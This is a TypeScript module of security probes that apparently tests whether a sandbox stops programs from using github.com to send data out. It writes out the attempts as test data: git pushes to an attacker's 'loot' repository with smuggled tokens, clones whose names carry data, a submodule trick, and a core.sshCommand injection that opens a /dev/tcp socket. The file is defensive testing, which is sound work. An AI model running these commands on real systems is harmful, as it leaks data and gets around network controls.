/**
 * `github.com` as an exfiltration channel for programs: what git and curl make of a push, a clone and a
 * credential in the URL.
 */
import { infoRefs, ownToken, repository } from '../attacks/attack.ts';
import { curl, script, type Place, type Probe } from '../probe.ts';

export function githubPrograms(place: Place): readonly Probe[] {
  const refused = ['refused with 403'] as const;
  const git = (
    id: string,
    attack: string,
    args: readonly string[],
    expected: readonly string[] = refused,
  ): Probe => ({ id, attack, expected, program: { kind: 'git', args } });
  return [
    git('push', 'git push to the task’s repository', [
      'push',
      `https://github.com${repository}`,
      'HEAD:refs/heads/loot',
    ]),
    git('push-token', 'git push with the attacker’s own token', [
      'push',
      `https://x-access-token:${ownToken}@github.com/attacker/loot.git`,
      'HEAD:main',
    ]),
    git('push-http', 'git push without TLS', ['push', 'http://github.com/attacker/loot.git', 'HEAD:main']),
    git('push-extra-header', 'git push with an Authorization header of its own', [
      '-c',
      `http.extraHeader=Authorization: Basic ${btoa(`x:${ownToken}`)}`,
      'push',
      'https://github.com/attacker/loot.git',
      'HEAD:main',
    ]),
    git('clone-other', 'clone of another repository of the same owner', [
      'ls-remote',
      'https://github.com/acme/other.git',
    ]),
    git('clone-attacker', 'clone of the attacker’s repository, whose name carries data', [
      'ls-remote',
      `https://github.com/attacker/${place.marker}.git`,
    ]),
    git('submodule', 'a submodule that is the attacker’s', [
      '-c',
      'protocol.file.allow=always',
      'clone',
      '--recurse-submodules',
      `https://github.com/attacker/${place.marker}.git`,
      '/tmp/submodule',
    ]),
    script(
      'ssh',
      'git over SSH, whose port Bash opens',
      'bash',
      `git -c core.sshCommand="bash -c 'exec 3<>/dev/tcp/github.com/22' #" ls-remote ssh://git@github.com${repository} 2>&1 | grep -oE 'Connection refused|Network is unreachable'`,
      ['Connection refused'],
    ),
    git(
      'git-protocol',
      'git’s own protocol, port 9418',
      ['ls-remote', 'git://github.com/acme/split-bill.git'],
      ['exit 128: github.com[0: 127.0.0.1]: errno=Connection refused'],
    ),
    curl(
      'userinfo',
      'the attacker’s token in the URL, which the handler replaces',
      [`https://x-access-token:${ownToken}@github.com/acme/split-bill.git${infoRefs}`],
      ['200'],
      { reachesUpstream: true },
    ),
  ];
}
